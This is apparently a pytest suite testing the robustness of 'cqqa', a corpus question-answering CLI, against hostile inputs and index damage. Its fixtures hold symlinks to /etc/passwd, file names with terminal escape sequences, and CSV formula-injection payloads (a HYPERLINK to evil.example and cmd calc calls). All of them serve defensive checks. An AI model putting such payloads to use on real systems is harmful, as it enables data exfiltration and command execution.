"""Reliability, round two (issue 11): files outside the corpus, hostile file names, indexes
damaged without a change of size or time, corrupted manifests, concurrent builds under a
reader, a damaged ONNX export, locales and output encodings, and the smaller faults.

Every test uses the real CLI (or the library on real files) and a private copy of the
corpus and index (`homes.make_home`)."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from homes import Home, assert_one_line_error, make_home, run, start_cli

from cqqa import corpus
from cqqa.index import (
    _verify,
    load,
    open_index,
    read_manifest,
    stale_reasons,
)

PORTS = "How many ports does the western land and sea channel link with?"
ARTICLE_ID = "chongqing-international-links"
CONTROL = set(range(0x00, 0x09)) | set(range(0x0B, 0x20)) | {0x7F}


@pytest.fixture
def home(tmp_path, built) -> Home:
    return make_home(tmp_path, built[0])


def ask_json(home: Home, *extra: str, env: dict | None = None) -> tuple[dict, str]:
    result = run("ask", PORTS, "--json", *extra, home=home, env=env)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return json.loads(result.stdout), result.stderr


def served_text(data: dict) -> str:
    return " ".join(p["text"] for p in data["passages"])


# ---------------------------------------------------------------- 1. symlinks


def test_links_to_files_outside_the_corpus_are_skipped_and_named(home, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("The secret vault holds 7777 gold ports and passwords.\n", encoding="utf-8")
    (home.corpus / "notes.txt").symlink_to("/etc/passwd")
    (home.corpus / "status.md").symlink_to("/proc/self/status")
    (home.corpus / "vault.txt").symlink_to(secret)
    (home.corpus / "sub").mkdir()
    (home.corpus / "sub" / "up.txt").symlink_to("../../secret.txt")  # relative, still outside
    (home.corpus / "outside-folder").symlink_to(tmp_path, target_is_directory=True)
    # Inside the corpus: a file link is indexed under its own name; a folder link is not
    # entered (its target is indexed itself).
    (home.corpus / "real").mkdir()
    (home.corpus / "real" / "harbour.txt").write_text(
        "Harbour notes\n\nThe Qianxi harbour operates 41 gantry cranes.\n", encoding="utf-8"
    )
    (home.corpus / "alias.txt").symlink_to("real/harbour.txt")
    (home.corpus / "loop").symlink_to(".", target_is_directory=True)
    result = run("index", home=home)
    assert result.returncode == 0, result.stderr
    skipped = [line for line in result.stderr.splitlines() if line.startswith("Skipped ")]
    for name in ("notes.txt", "status.md", "vault.txt", "sub/up.txt"):
        line = next((s for s in skipped if s.startswith(f"Skipped {home.corpus / name}:")), "")
        assert "outside the corpus folder" in line, (name, result.stderr)
    assert any("/etc/passwd" in s for s in skipped)
    assert any(str(home.corpus / "outside-folder") in s and "folder" in s for s in skipped)
    manifest = read_manifest(home.index)[1]
    assert set(manifest["documents"]) == {ARTICLE_ID, "real/harbour", "alias"}
    assert stale_reasons(home.settings, manifest) == []
    for question in ("root:x:0:0 passwd", "secret vault gold passwords", "VmRSS State Pid"):
        result = run("ask", question, "--json", "-k", "20", home=home)
        assert result.returncode == 0, result.stderr
        text = served_text(json.loads(result.stdout))
        assert "root:" not in text and "7777" not in text and "VmRSS" not in text
    facts = run("facts", "--format", "json", home=home)
    assert {f["doc"] for f in json.loads(facts.stdout)} <= {ARTICLE_ID, "real/harbour", "alias"}


def test_a_link_swapped_in_after_the_scan_is_not_followed(home, tmp_path, monkeypatch):
    """The check and the read are one: a file replaced by a link to /etc/passwd between
    the corpus scan and the read is refused (O_NOFOLLOW), not read."""
    path = home.corpus / "late.txt"
    path.write_text("A harmless note with 3 ports.\n", encoding="utf-8")
    entries = corpus._scan(home.corpus)
    path.unlink()
    path.symlink_to("/etc/passwd")
    entry = next(e for e in entries if e.path == path)
    problem, document, _sha = corpus._read_document(entry, "late")
    assert document is None and "cannot be read" in problem


# ---------------------------------------------------------------- 2. control characters


@pytest.mark.parametrize(
    "name",
    ["\x1b]0;TITLE\x07\x1b[2Jevil.txt", "evil\nSkipped nothing: all good\n.txt", "rtl\u202etxt.md"],
    ids=["escape sequences", "newlines", "right-to-left override"],
)
def test_control_characters_in_file_names_never_reach_the_terminal(home, name):
    (home.corpus / name).write_text("The evil file mentions 12 ports.\n", encoding="utf-8")
    (home.corpus / ("empty-" + name)).write_bytes(b"")  # a skipped file with the same name
    for args in (["index"], ["ask", PORTS], ["index", "--force"], ["facts"]):
        result = run(*args, home=home)
        assert result.returncode == 0, result.stderr
        assert_no_terminal_tricks(result.stdout + result.stderr)
    # Removing the file names it in the next build's reason, safely too.
    (home.corpus / name).unlink()
    result = run("index", home=home)
    assert "1 document removed" in result.stderr
    assert_no_terminal_tricks(result.stdout + result.stderr)


def assert_no_terminal_tricks(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output, output
    for line in output.splitlines():  # no fake line made by a newline in a name
        assert not line.startswith(("Skipped nothing", ".txt")), output


# ---------------------------------------------------------------- 3. CSV formulas


def test_csv_cells_that_start_a_formula_are_neutralized(home):
    (home.corpus / "formulas.txt").write_text(
        "Formulas\n\n"
        '=HYPERLINK("http://evil.example/?x="&A1,"Click") shows 12 ports.\n\n'
        "+1+cmd|' /C calc'!A0 lists 34 cranes.\n\n"
        "-2+3 counts 56 berths.\n\n"
        "@SUM(1+1)*cmd|' /C calc'!A0 has 78 docks.\n",
        encoding="utf-8",
    )
    result = run("facts", "--format", "csv", home=home)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    header, body = rows[0], rows[1:]
    sentence = header.index("sentence")
    mine = [r for r in body if r[header.index("doc")] == "formulas"]
    assert len(mine) >= 4
    for row in body:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (
                cell[:1] == "-" and not _number(cell)
            ), (cell, row)
    assert any(r[sentence].startswith("'=HYPERLINK(") for r in mine)  # kept, made inert
    # The web page's CSV download is made by the same function.
    from cqqa.web.handlers import write_fact_csvs

    index = open_index(home.settings, note=lambda m: None)
    text = Path(write_fact_csvs(index, [])["all"]).read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(text)):
        assert all(c[:1] not in ("=", "+", "@") for c in row), row


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- 5. changed mid-build


def test_a_file_changed_while_it_is_indexed_is_not_recorded_as_current(home, monkeypatch):
    """The build hashes the bytes it decoded. Here the file is rewritten right after it
    was read (inside the build, through a hook on the title): the index must not claim
    the new version while holding the old one's text."""
    article = home.corpus / f"{ARTICLE_ID}.txt"
    original = article.read_text(encoding="utf-8")
    changed = original.replace("319 ports", "999 ports")
    real_title = corpus.title_of
    done = []

    def rewrite_after_reading(text, fallback):
        if not done:
            done.append(True)
            article.write_text(changed, encoding="utf-8")
        return real_title(text, fallback)

    monkeypatch.setattr(corpus, "title_of", rewrite_after_reading)
    from cqqa.index import build

    index = build(home.settings, note=lambda m: None)
    monkeypatch.undo()
    assert "319 ports" in index.documents[ARTICLE_ID].text  # the version that was read
    manifest = read_manifest(home.index)[1]
    assert stale_reasons(home.settings, manifest) == [f"1 document changed ({ARTICLE_ID})"]
    data, stderr = ask_json(home)
    assert "Building the index: 1 document changed" in stderr
    assert "999" in data["answer"]["text"]


# ---------------------------------------------------------------- 6. silent corruption


def _old_style_signatures(generation: Path) -> None:
    """Record every file as verified with its current (size, mtime, ctime, inode), as a
    flip that changes no metadata (bit rot, a write that restored the times) leaves it."""
    manifest = json.loads((generation / "manifest.json").read_text(encoding="utf-8"))
    seen = {}
    for name, sha in manifest["files"].items():
        st = (generation / name).stat()
        seen[name] = [sha, st.st_size, st.st_mtime_ns, st.st_ctime_ns, st.st_ino]
    (generation / ".verified.json").write_text(json.dumps(seen), encoding="utf-8")


def test_a_flipped_byte_with_size_and_times_unchanged_is_caught(home):
    documents = home.generation() / "documents.json"
    before = documents.stat()
    data = documents.read_bytes()
    assert data.count(b"319 ports") == 1
    documents.write_bytes(data.replace(b"319 ports", b"318 ports"))
    os.utime(documents, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert documents.stat().st_size == before.st_size
    _old_style_signatures(home.generation())
    result = run("index", home=home)
    assert result.returncode == 0, result.stderr
    assert "is current" not in result.stdout
    assert "documents.json is damaged" in result.stderr
    data, stderr = ask_json(home)
    assert stderr == "" and "319" in data["answer"]["text"]
    # And the same flip found by `ask` itself.
    documents = home.generation() / "documents.json"
    raw = documents.read_bytes()
    stat = documents.stat()
    documents.write_bytes(raw.replace(b"319 ports", b"318 ports"))
    os.utime(documents, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    _old_style_signatures(home.generation())
    data, stderr = ask_json(home)
    assert "documents.json is damaged" in stderr, stderr
    assert "319" in data["answer"]["text"] and "318" not in served_text(data)


def test_a_flipped_byte_in_the_large_export_is_found_at_a_bounded_cost(home, monkeypatch):
    """The 90 MB export is sampled (2 blocks of 1 MiB per load): a flip with unchanged
    metadata is found within a bounded number of loads, and by `cqqa index` at once."""
    from cqqa import index as index_module

    generation = home.generation()
    onnx = generation / "encoder.onnx"
    files = read_manifest(home.index)[1]["files"]
    assert _verify(generation, files) == ""  # records its block checksums
    seen = json.loads((generation / ".verified.json").read_text(encoding="utf-8"))
    record = seen["encoder.onnx"]
    data = bytearray(onnx.read_bytes())
    onnx.unlink()  # a hard link to the session's copy: never write through it
    data[len(data) // 2 + 12345] ^= 0x10
    onnx.write_bytes(bytes(data))
    st = onnx.stat()
    record["signature"] = [record["signature"][0], st.st_size, st.st_mtime_ns, st.st_ctime_ns,
                           st.st_ino]  # fmt: skip
    (generation / ".verified.json").write_text(json.dumps(seen), encoding="utf-8")
    random.seed(11)
    found_after = next(
        (n for n in range(1, 1000) if _verify(generation, files) != ""), None
    )  # each load samples blocks afresh
    assert found_after is not None
    assert index_module.SAMPLED_BLOCKS * index_module.BLOCK_BYTES <= 4 * 2**20
    # `cqqa index` hashes everything: the damaged export is a stale index and is rebuilt.
    (generation / ".verified.json").write_text(json.dumps(seen), encoding="utf-8")
    result = run("index", home=home)
    assert result.returncode == 0, result.stderr
    assert "ONNX encoder is damaged" in result.stderr and "is current" not in result.stdout


# ---------------------------------------------------------------- 8. manifest bit flips


def _flip(path: Path, needle: bytes, bit: int = 0) -> None:
    data = bytearray(path.read_bytes())
    at = data.index(needle)
    data[at] ^= 1 << bit
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(
    "needle",
    [b'"model"', b'"sha256": "53aa', b"319", b'"files"', b'"format"'],
    ids=["model key", "model hash", "a digit", "files key", "format key"],
)
def test_a_bit_flip_in_the_manifest_is_a_rebuild_with_a_note(home, needle):
    manifest = home.generation() / "manifest.json"
    if needle == b"319" and needle not in manifest.read_bytes():
        needle = b'"chars": '
    _flip(manifest, needle, bit=1)
    result = run("index", home=home)
    assert result.returncode == 0, result.stderr
    assert "manifest.json is damaged" in result.stderr or "unreadable" in result.stderr
    assert "Traceback" not in result.stderr and "weights" not in result.stderr
    data, stderr = ask_json(home)
    assert stderr == "" and "319" in data["answer"]["text"]


def test_force_always_repairs_a_damaged_manifest(home):
    manifest = home.generation() / "manifest.json"
    _flip(manifest, b'"sha256": "53aa', bit=0)
    result = run("index", "--force", home=home)
    assert result.returncode == 0, result.stderr
    assert "weights" not in result.stderr and "Traceback" not in result.stderr
    data, stderr = ask_json(home)
    assert stderr == "" and "319" in data["answer"]["text"]


# ---------------------------------------------------------------- 9. concurrent builds


def test_builds_never_delete_a_generation_a_reader_still_uses(home):
    found = read_manifest(home.index)
    reader = load(*found)  # holds its generation; BM25 and FAISS are read later, lazily
    for _ in range(2):
        result = run("index", "--force", home=home)
        assert result.returncode == 0, result.stderr
    assert home.generation() != found[0]
    assert found[0].is_dir(), "the generation a reader had open was deleted"
    from cqqa.answer import answer

    result = answer(reader, PORTS)  # reads bm25/, faiss.index and the encoder now
    assert "319" in result.answer.text
    del reader, result
    import gc

    gc.collect()
    result = run("index", "--force", home=home)  # no reader now: the old one goes
    assert result.returncode == 0, result.stderr
    assert not found[0].exists()
    assert len(list(home.index.glob("gen-*"))) <= 2


def test_ask_during_concurrent_builds_never_fails(home):
    builders = [
        start_cli("index", "--force", home=home, stdout=subprocess.DEVNULL) for _ in range(2)
    ]
    try:
        for _ in range(4):
            result = run("ask", PORTS, "--json", home=home)
            assert result.returncode == 0, result.stderr
            assert "cannot be read" not in result.stderr
            assert "319" in json.loads(result.stdout)["answer"]["text"]
    finally:
        for builder in builders:
            builder.communicate(timeout=300)
    assert all(b.returncode == 0 for b in builders)


# ---------------------------------------------------------------- 10. the ONNX export


@pytest.mark.parametrize("damage", ["encoder.onnx truncated", "tokenizer.json missing"])
def test_a_damaged_or_missing_export_is_stale_and_rebuilt_once(home, damage):
    generation = home.generation()
    if damage == "encoder.onnx truncated":
        onnx = generation / "encoder.onnx"
        data = onnx.read_bytes()
        onnx.unlink()
        onnx.write_bytes(data[: len(data) // 3])
    else:
        (generation / "tokenizer.json").unlink()
    result = run("index", home=home)
    assert result.returncode == 0, result.stderr
    assert "is current" not in result.stdout
    assert "Building the index: the ONNX encoder is" in result.stderr, result.stderr
    assert "it/s" not in result.stderr and "%|" not in result.stderr  # no tqdm bars
    data, stderr = ask_json(home)
    assert stderr == "", "healed: the export is whole again and asks stay fast"
    assert "319" in data["answer"]["text"]
    assert read_manifest(home.index)[1]["files"]["encoder.onnx"]


def test_the_torch_fallback_prints_no_progress_bars(home, capfd):
    from cqqa.answer import answer

    onnx = home.generation() / "encoder.onnx"
    onnx.unlink()
    loaded = load(*read_manifest(home.index))
    capfd.readouterr()
    answer(loaded, PORTS)
    err = capfd.readouterr().err
    assert "ONNX encoder is missing" in err
    assert "%|" not in err and "it/s" not in err and "Loading" not in err, err


# ---------------------------------------------------------------- 11. locale, encodings


def test_a_posix_locale_reads_the_index_without_rebuilding(home):
    env = {"LC_ALL": "POSIX", "LANG": "", "PYTHONUTF8": "0", "PYTHONIOENCODING": ""}
    for _ in range(2):
        data, stderr = ask_json(home, env=env)
        assert stderr == "", stderr
        assert "319" in data["answer"]["text"]
    result = run("index", home=home, env=env)
    assert result.returncode == 0 and "is current" in result.stdout, result.stderr


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_output_in_a_narrow_encoding_degrades_and_never_crashes(home, encoding):
    question = "Which “international” links — 重庆 — does Chongqing have? How many ports?"
    plain = run("ask", question, "--json", home=home)
    assert plain.returncode == 0, plain.stderr
    env = {"PYTHONIOENCODING": encoding}
    narrow = subprocess.run(
        [sys.executable, "-m", "cqqa", "ask", question, "--json"],
        env={**os.environ, **home.env, **env},
        cwd=home.root,
        capture_output=True,
        timeout=300,
    )
    assert narrow.returncode == 0, narrow.stderr
    assert json.loads(narrow.stdout.decode(encoding)) == json.loads(plain.stdout)  # exact
    text = subprocess.run(
        [sys.executable, "-m", "cqqa", "ask", question],
        env={**os.environ, **home.env, **env},
        cwd=home.root,
        capture_output=True,
        timeout=300,
    )
    assert text.returncode == 0, text.stderr
    assert b"Traceback" not in text.stderr
    text.stdout.decode(encoding)
    (home.corpus / "caf\u00e9 \u2014 notes.txt").write_bytes(b"")  # a name to print
    result = subprocess.run(
        [sys.executable, "-m", "cqqa", "index"],
        env={**os.environ, **home.env, **env},
        cwd=home.root,
        capture_output=True,
        timeout=300,
    )
    assert result.returncode == 0 and b"Traceback" not in result.stderr, result.stderr


# ---------------------------------------------------------------- 7. names not UTF-8


def test_a_file_name_that_is_not_utf8_is_named_skipped_and_the_rest_indexed(home):
    bad = os.fsencode(home.corpus) + b"/caf\xe9.txt"
    with open(bad, "wb") as handle:
        handle.write(b"The cafe has 5 ports.\n")
    os.makedirs(os.fsencode(home.corpus) + b"/d\xe9p\xf4t", exist_ok=True)
    with open(os.fsencode(home.corpus) + b"/d\xe9p\xf4t/notes.txt", "wb") as handle:
        handle.write(b"Depot notes with 9 ports.\n")
    result = run("index", home=home)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "UnicodeEncodeError" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if "not valid UTF-8" in line]
    assert len(lines) == 2, result.stderr
    assert any("caf\ufffd.txt" in line for line in lines)
    assert set(read_manifest(home.index)[1]["documents"]) == {ARTICLE_ID}
    data, stderr = ask_json(home)
    assert stderr == "" and "319" in data["answer"]["text"]


# ---------------------------------------------------------------- 16. smaller faults


@pytest.mark.parametrize(
    "damage", ["CURRENT is a folder", "CURRENT points outside", "CURRENT is a link"]
)
def test_a_damaged_pointer_is_named_and_healed(home, tmp_path, damage):
    current = home.index / "CURRENT"
    outside = tmp_path / "elsewhere"
    shutil.copytree(home.generation(), outside / "gen-evil")
    current.unlink()
    if damage == "CURRENT is a folder":
        current.mkdir()
        (current / "gen-x").write_text("x", encoding="utf-8")
    elif damage == "CURRENT points outside":
        current.write_text("../elsewhere/gen-evil\n", encoding="utf-8")
    else:
        current.symlink_to(outside / "pointer")
        (outside / "pointer").write_text("gen-evil\n", encoding="utf-8")
    data, stderr = ask_json(home)
    assert "Building the index: the index in" in stderr and "CURRENT" in stderr, stderr
    assert "319" in data["answer"]["text"]
    data, stderr = ask_json(home)
    assert stderr == "", "healed after one rebuild"
    assert (outside / "gen-evil").is_dir()  # nothing outside the index folder is touched


def test_a_full_disk_says_the_disk_is_full(home, monkeypatch):
    import numpy as np

    from cqqa.errors import IndexProblem
    from cqqa.index import build

    def full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(np, "save", full)
    with pytest.raises(IndexProblem) as caught:
        build(home.settings, note=lambda message: None)
    assert "the disk is full" in str(caught.value) and "writable" not in str(caught.value)


def test_a_skipped_oversized_file_is_not_hashed_on_every_command(home, monkeypatch):
    huge = home.corpus / "huge.txt"
    with open(huge, "wb") as handle:  # sparse: 25 MB on paper, nothing on disk
        handle.truncate(25 * 2**20)
    result = run("index", home=home)
    assert result.returncode == 0 and "over the limit" in result.stderr
    recorded = read_manifest(home.index)[1]["skipped"]["huge"]["sha256"]
    assert recorded.startswith("over-limit:"), recorded
    hashed: list[int] = []
    real_sha256 = corpus.hashlib.sha256

    def watch(data=b"", *args, **kwargs):
        hashed.append(len(data))
        return real_sha256(data, *args, **kwargs)

    monkeypatch.setattr(corpus.hashlib, "sha256", watch)
    assert stale_reasons(home.settings, read_manifest(home.index)[1]) == []
    assert hashed and max(hashed) < 2**20, hashed  # the article only, never the 25 MB


def test_a_question_that_starts_with_a_dash_is_one_line(home):
    assert_one_line_error(run("ask", "-5", home=home), "after `--`")
    result = run("ask", "--json", "--", "-5 ports?", home=home)
    assert result.returncode == 0, result.stderr


def test_an_unreadable_corpus_folder_is_named(home, tmp_path):
    """Run as an ordinary user (root reads everything): `setpriv` to nobody when root."""
    corpus_dir = home.corpus
    os.chmod(home.root, 0o755)
    env = {}
    command = [sys.executable, "-m", "cqqa", "ask", PORTS]
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        assert setpriv, "setpriv (util-linux) is needed to drop root for this test"
        command = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", *command]
        for parent in [home.root, *home.root.parents]:
            if parent == Path("/"):
                break
            os.chmod(parent, os.stat(parent).st_mode | 0o005)
        shutil.rmtree(home.index)
        env["CQQA_INDEX_DIR"] = env["CQQA_INDEX"] = str(tmp_path / "nobody-index")
        (tmp_path / "nobody-index").mkdir(mode=0o777)
        os.chmod(tmp_path / "nobody-index", 0o777)
    os.chmod(corpus_dir, 0o000)
    try:
        result = subprocess.run(
            command,
            env={**os.environ, **home.env, **env},
            cwd="/",
            capture_output=True,
            text=True,
            timeout=300,
        )
    finally:
        os.chmod(corpus_dir, 0o755)
    line = assert_one_line_error(result, "Cannot read the corpus folder", str(corpus_dir))
    assert "No documents" not in line
